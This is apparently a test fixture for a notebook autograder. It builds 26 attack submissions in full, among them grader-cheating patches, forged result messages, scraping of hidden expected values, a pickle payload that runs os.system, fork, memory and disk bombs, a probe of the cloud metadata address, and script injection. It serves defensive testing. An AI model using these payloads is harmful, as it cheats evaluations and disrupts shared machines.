"""The attacks of the threat model, by number: each makes the files of one submission.

Every attack's author writes wrong code (the sum instead of the mean, or nothing), unless the attack is
a nuisance around right code; `FULL` names those that deserve their point all the same.
"""

import json
import struct

from grading.notebooks import RIGHT, WRONG, book, cell, centroid

REFERENCE = "course_lib.exercises.nb00_start"

PATCHES = """
import torch, builtins
torch.allclose = torch.equal = lambda *a, **k: True
torch.Tensor.__eq__ = torch.Tensor.eq = lambda *a, **k: True
builtins.print = lambda *a, **k: None
import course_lib.checking.outcome as o, course_lib.checking.values as v, json
v.freeze = lambda value: 0.0
"""

EQUALS_ALL = """
import torch
class Everything(torch.Tensor):
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def allclose(self, *a, **k): return True
    @classmethod
    def __torch_function__(cls, f, types, args=(), kwargs=None):
        return super().__torch_function__(f, types, args, kwargs or {})
class Anything:
    __eq__ = __le__ = __ge__ = __lt__ = lambda s, o: True
    __hash__ = None
    def __getattr__(self, name): return lambda *a, **k: True
def centroid(points):
    return Everything(points.sum(1)) if points.shape[0] > 1 else Anything()
"""

TRANSFORMERS = """
import ast
shell = get_ipython()
def rewrite(lines):
    return ["pass\\n"] if "show(" in "".join(lines) else lines
shell.input_transformers_cleanup.append(rewrite)
class Rewrite(ast.NodeTransformer):
    def visit_Call(self, node):
        self.generic_visit(node)
        if getattr(node.func, "id", "") == "show": return ast.Constant(True)
        return node
shell.ast_transformers.append(Rewrite())
def centroid(points):
    return points.sum(1)
"""

FORGED = """
import json
from IPython.display import display
kernel = get_ipython().kernel
good = {"value": {"tensor": [0.0] * 3, "shape": [1, 3], "dtype": "float32", "device": "cpu"},
        "gradients": {"tuple": []}, "changed": [], "failure": None}
def centroid(points):
    for value in (json.dumps(good), "null", "{}", "true"):
        data = {"application/vnd.course.outcome": value}
        display(data, raw=True)
        kernel.session.send(kernel.iopub_socket, "display_data", {"data": data, "metadata": {}},
                            parent=kernel.get_parent())
    return points.sum(1)
import course_lib.grading.inside as inside
def show(*a, **k): display({"application/vnd.course.outcome": json.dumps(good)}, raw=True)
inside.show = show
"""

READ_CHECKS = """
import sys, gc, re, inspect, os
def centroid(points):
    frame, texts = sys._getframe(), []
    while frame:
        texts += [repr(v) for v in frame.f_locals.values() if isinstance(v, (str, dict))]
        frame = frame.f_back
    texts.append(str(get_ipython().kernel.get_parent()))
    texts += [o for o in gc.get_objects() if isinstance(o, str)]
    import torch
    for text in texts:
        found = re.search(r'"tensor": \\[([-0-9., e]+)\\]', text)
        if found:
            return torch.tensor([float(x) for x in found[1].split(",")]).reshape(points.shape[0], 3)
    return points.sum(1)
"""

CALL_REFERENCE = f"""
import importlib, pathlib, re, sys, torch
def attempts(points):
    yield lambda: importlib.import_module("{REFERENCE}").centroid(points)
    def from_file(path):
        text = pathlib.Path(path).read_text()
        space = {{"torch": torch}}
        exec(re.search(r"(?s)def centroid.*?\\n\\n", text)[0], space)
        return space["centroid"](points)
    for root in ("/", "/work", "/root", "/home", "/usr", *sys.path):
        for path in list(pathlib.Path(root).glob("*/nb00_start*"))[:5]:
            yield lambda p=path: from_file(p)
        for path in list(pathlib.Path(root).glob("course_lib/exercises/nb00_start.py"))[:5]:
            yield lambda p=path: from_file(p)
    def from_catalogue():
        from course_lib.exercises import find
        return find("centroid").reference(points)
    yield from_catalogue
    def from_misconception():
        from course_lib.exercises import find
        return find("centroid").misconceptions[0].wrong(points) / points.shape[1]
    yield from_misconception
def centroid(points):
    for attempt in attempts(points):
        try:
            return attempt()
        except BaseException:
            pass
    return points.sum(1)
"""

LEAK = "def centroid(points):\n    raise ValueError('LEAKED ' + str(points.tolist()))\n"

EXIT = """
import os, sys, atexit
atexit.register(os._exit, 0)
def centroid(points):
    try:
        sys.exit(0)
    finally:
        os._exit(0)
"""

LOOP = """
import signal
for number in (signal.SIGINT, signal.SIGTERM):
    signal.signal(number, signal.SIG_IGN)
def centroid(points):
    while True:
        try:
            while True: pass
        except BaseException:
            pass
"""

NO_IDLE = """
import threading, time
kernel = get_ipython().kernel
send = kernel.session.send
def quiet(stream, kind, content=None, *a, **k):
    if kind == "status": return None
    return send(stream, kind, content, *a, **k)
kernel.session.send = quiet
def chatter():
    while True:
        print("still here"); time.sleep(0.05)
threading.Thread(target=chatter, daemon=True).start()
def centroid(points):
    return points.sum(1)
"""

FLOOD = """
def centroid(points):
    while True:
        print("x" * 1_000_000)
import sys
for i in range(10_000): sys.stdout.write("y" * 1_000_000)
"""

FORKS = """
import os, time
def bomb():
    while True:
        try:
            if os.fork() == 0:
                os.setsid()
                while True: time.sleep(0.01)
        except OSError:
            time.sleep(0.01)
def centroid(points):
    bomb()
if os.fork() == 0:
    bomb()
"""

MEMORY = """
import os
def eat():
    kept = []
    while True:
        try:
            kept.append(bytearray(b"x" * (64 << 20)))
        except MemoryError:
            while True: pass
def centroid(points):
    for i in range(8):
        if os.fork() == 0: eat()
    eat()
"""

DISK = """
import os
def fill(folder):
    try:
        for i in range(200):
            with open(f"{folder}/fill{i}", "wb") as file:
                for _ in range(64): file.write(b"x" * (1 << 20))
    except OSError:
        return
def centroid(points):
    for folder in ("/tmp", "/tmp/home", "/dev/shm", "/dev", "/run/kernel", "/run", "/", "/var/tmp"):
        fill(folder)
    return points.sum(1)
"""

NETWORK = """
import socket, urllib.request
def centroid(points):
    for address in (("127.0.0.1", 22), ("8.8.8.8", 53), ("169.254.169.254", 80)):
        try:
            socket.create_connection(address, timeout=1)
            return points.mean(1)
        except OSError:
            pass
    return points.sum(1)
"""

BESIDE = "import torch\ndef centroid(points):\n    return points.sum(1)\n"
CONFTEST = """
import pytest
@pytest.hookimpl(hookwrapper=True)
def pytest_runtest_makereport(item, call):
    out = yield
    out.get_result().outcome = "passed"
open("/tmp/course-conftest-ran", "w").close()
"""
RAN = 'open("/tmp/course-shadow-ran", "w").close()\n'

STARTUP = """
import os, pathlib
for home in {os.path.expanduser("~"), "/root", "/home", "/tmp/home"}:
    try:
        folder = pathlib.Path(home, ".ipython/profile_default/startup")
        folder.mkdir(parents=True, exist_ok=True)
        (folder / "00.py").write_text("import torch; torch.Tensor.sum = torch.Tensor.mean")
    except OSError:
        pass
def centroid(points):
    return points.sum(1)
"""

PICKLED = """
import pickle, json, os
class Bomb:
    def __reduce__(self): return (os.system, ("touch /tmp/course-pickle-ran",))
pickle.dumps = pickle._dumps = json.dumps = lambda *a, **k: '{"value": 1}'
pickle.dump = lambda v, file, *a: file.write(b"cos\\nsystem\\n(S'touch /tmp/course-pickle-ran'\\ntR.")
def centroid(points):
    return Bomb()
"""

SKIP = "# NBVAL_SKIP\n# NBVAL_IGNORE_OUTPUT\n#PYTEST_VALIDATE_IGNORE_OUTPUT\n# NBVAL_RAISES_EXCEPTION\n"

HTML = """
from IPython.display import HTML, display
display(HTML("<script>alert(1)</script>"))
print("\\x1b[31m<script>alert(2)</script>\\x1b[0m")
def centroid(points):
    raise NameError("name '<script>alert(3)</script>' is not defined")
"""


def _spoofed() -> str:
    course = {"role": "case", "number": 0, "points": 99, "tol": [9e9, 9e9]}
    metadata = {"tags": ["nbval-skip", "raises-exception"], "course": course, "nbgrader": {}}
    cells = [
        cell("ex-centroid", WRONG, metadata=metadata),
        cell("ex-centroid", "def centroid(points):\n    return points.mean()\n", metadata=metadata),
        cell("case-0", "passed = True", metadata=metadata),
    ]
    return json.dumps(book(cells, metadata={"course": {"exercise": "centroid", "points": 99}}))


def _edited_checks() -> str:
    cells = [
        cell("ex-centroid", WRONG),
        cell("check-centroid", "centroid = lambda points: points.mean(1)\ncheck = lambda *a: True"),
        cell("other", "import course_lib.checking; course_lib.checking.check = lambda f: f"),
    ]
    return json.dumps(book(cells))


def _large() -> str:
    return json.dumps(book([cell("ex-centroid", WRONG), cell("fat", "#" + "x" * (60 << 20))]))


def _other_kernel() -> str:
    spec = {"name": "bash", "display_name": "Bash", "language": "bash"}
    return centroid(WRONG, metadata={"kernelspec": spec, "language_info": {"name": "bash"}})


ZIPPED_NOISE = struct.pack("<I", 0x04034B50) + b"\x00" * 40

ATTACKS: dict[int, tuple[str, dict[str, str | bytes]]] = {
    1: ("edited checks", {".ipynb": _edited_checks()}),
    2: ("patched comparison", {".ipynb": centroid(PATCHES + WRONG)}),
    3: ("equal to everything", {".ipynb": centroid(EQUALS_ALL)}),
    4: ("input transformers", {".ipynb": centroid(TRANSFORMERS)}),
    5: ("forged messages", {".ipynb": centroid(FORGED)}),
    6: ("reading the checks", {".ipynb": centroid(READ_CHECKS)}),
    7: ("calling the reference", {".ipynb": centroid(CALL_REFERENCE)}),
    8: ("hidden inputs in errors", {".ipynb": centroid(LEAK)}),
    9: ("exit", {".ipynb": centroid(EXIT)}),
    10: ("endless loop", {".ipynb": centroid(LOOP)}),
    11: ("suppressed idle", {".ipynb": centroid(NO_IDLE)}),
    12: ("flood of output", {".ipynb": centroid(FLOOD)}),
    13: ("fork bomb", {".ipynb": centroid(FORKS)}),
    14: ("memory bomb", {".ipynb": centroid(MEMORY)}),
    15: ("full disk", {".ipynb": centroid(DISK)}),
    16: ("network", {".ipynb": centroid(NETWORK)}),
    17: (
        "files for pytest",
        {
            "/work.ipynb": centroid(WRONG),
            "/conftest.py": CONFTEST,
            "/pytest.ini": "[pytest]\naddopts = -p no:cacheprovider --co\n",
            "/sitecustomize.py": RAN,
        },
    ),
    18: (
        "shadowed modules",
        {
            "/work.ipynb": centroid(BESIDE),
            "/torch.py": RAN,
            "/course_lib.py": RAN,
            "/course_lib/__init__.py": RAN,
        },
    ),
    19: ("start-up files", {".ipynb": centroid(STARTUP)}),
    20: ("pickled results", {".ipynb": centroid(PICKLED)}),
    21: ("another kernel", {".ipynb": _other_kernel()}),
    22: ("nbval's markers", {".ipynb": centroid(SKIP + WRONG)}),
    23: ("spoofed metadata", {".ipynb": _spoofed()}),
    24: ("large file", {".ipynb": _large()}),
    25: ("deep JSON", {".ipynb": "[" * 200_000 + "]" * 200_000}),
    26: ("script in outputs", {".ipynb": centroid(HTML)}),
}

NUISANCES: dict[str, str] = {
    "kernel": centroid(RIGHT, metadata={"kernelspec": {"name": "nothing-of-that-name"}}),
    "markers": centroid(SKIP + RIGHT),
    "plots": centroid("import matplotlib.pyplot as plt\nplt.plot([1, 2])\nplt.show()\n" + RIGHT),
}
